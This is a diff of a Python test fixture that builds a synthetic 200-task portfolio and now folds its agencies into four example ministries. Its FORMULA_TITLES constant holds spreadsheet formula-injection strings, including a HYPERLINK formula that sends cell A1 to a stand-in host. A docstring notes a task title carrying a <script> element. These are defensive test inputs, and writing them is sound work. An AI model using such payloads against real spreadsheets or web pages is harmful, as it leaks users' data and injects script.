@@ -20,22 +20,30 @@ HOSTILE_TASK = "HOSTILE-1"
 FORMULA_TITLES = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(1,2)")
 
 
-def fold_agencies(frame: pd.DataFrame, agencies: int) -> pd.DataFrame:
-    """``frame`` with its agencies folded into ``agencies`` named "Agency 1", "Agency 2", ... (the i-th name in
-    sorted order becomes agency i mod ``agencies`` + 1): the same tasks, and a report of that many agency pages at
-    most, where a page per agency costs a kernel execution and a rendering."""
-    names = sorted(frame["agency"].unique())
-    return frame.assign(agency=frame["agency"].map({n: f"Agency {i % agencies + 1}" for i, n in enumerate(names)}))
+# The agencies the example scenarios (params/scenarios/*.yaml) name: a portfolio folded into them runs those scenarios
+EXAMPLE_AGENCIES = (
+    "Government Office",
+    "Ministry of Finance",
+    "Ministry of Home Affairs",
+    "Ministry of Science and Technology",
+)
 
 
-def write_portfolio(folder: Path, agencies: int | None = None) -> Path:
-    """A 200-task synthetic portfolio (weekly, Sep - 4 Dec 2025) as CSV exports; the longest overdue task has a
-    title holding a ``<script>`` element, and four tasks due by 31 Dec have titles a spreadsheet would run as
-    formulas (:data:`FORMULA_TITLES`). With ``agencies``, its 34 agencies are folded into that many
-    (:func:`fold_agencies`)."""
-    frame = sample.generate(tasks=200, seed=3, start="2025-09-04", until="2025-12-04")
-    if agencies is not None:
-        frame = fold_agencies(frame, agencies)
+def fold_agencies(frame: pd.DataFrame) -> pd.DataFrame:
+    """``frame`` with its agencies folded into :data:`EXAMPLE_AGENCIES` (the i-th agency in sorted order becomes
+    the (i mod 4)-th): the same tasks, and a report of four agency pages at most, where a page per agency costs a
+    kernel execution and a rendering."""
+    agencies = sorted(frame["agency"].unique())
+    names = EXAMPLE_AGENCIES
+    return frame.assign(agency=frame["agency"].map({a: names[i % len(names)] for i, a in enumerate(agencies)}))
+
+
+def write_portfolio(folder: Path) -> Path:
+    """A 200-task synthetic portfolio (weekly, Sep - 4 Dec 2025) as CSV exports, its 34 agencies folded into the
+    four the example scenarios name (:func:`fold_agencies`); the longest overdue task has a title holding a
+    ``<script>`` element, and four tasks due by 31 Dec have titles a spreadsheet would run as formulas
+    (:data:`FORMULA_TITLES`)."""
+    frame = fold_agencies(sample.generate(tasks=200, seed=3, start="2025-09-04", until="2025-12-04"))
     last = frame["snapshot_date"].max()
     overdue = frame.loc[(frame["snapshot_date"] == last) & (frame["status"] == schema.OVERDUE)]
     victim = overdue.sort_values("deadline")["task_id"].iloc[0]  # the longest overdue: listed in every report
